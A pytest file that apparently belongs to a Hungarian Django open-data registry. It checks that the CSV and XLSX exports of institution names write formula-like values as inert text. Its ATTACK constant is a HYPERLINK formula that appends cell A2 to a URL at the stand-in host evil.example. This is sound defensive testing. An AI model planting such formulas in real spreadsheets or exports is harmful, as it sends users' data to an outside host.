"""An institution name that is a spreadsheet formula comes out of the open data as text (issue 12, item 3)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.factories.registry import MaintainerFactory, registered_institution

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?d="&A2,"Részletek")'


def _download(client, fmt: str) -> bytes:
    response = client.get(f"/kereses/nyilt-adatok/legfrissebb/intezmenyek.{fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_csv_export_writes_a_formula_like_name_as_text(client, places):
    registered_institution(name=ATTACK, om_id="030001", maintainer=MaintainerFactory(name="+36 Alapítvány"))
    rows = list(csv.reader(io.StringIO(_download(client, "csv").decode("utf-8-sig"))))
    assert rows[1][1] == "'" + ATTACK
    assert "'+36 Alapítvány" in rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_xlsx_export_writes_a_formula_like_name_as_a_text_cell(client, places):
    registered_institution(name=ATTACK, om_id="030001")
    sheet = load_workbook(io.BytesIO(_download(client, "xlsx"))).active
    cell = sheet["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (ATTACK, "s", True)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_open_data_page_says_how_formula_like_cells_are_written(client, places):
    page = client.get("/kereses/nyilt-adatok/").content.decode()
    assert "aposztróf" in page and "nem futtatja őket képletként" in page
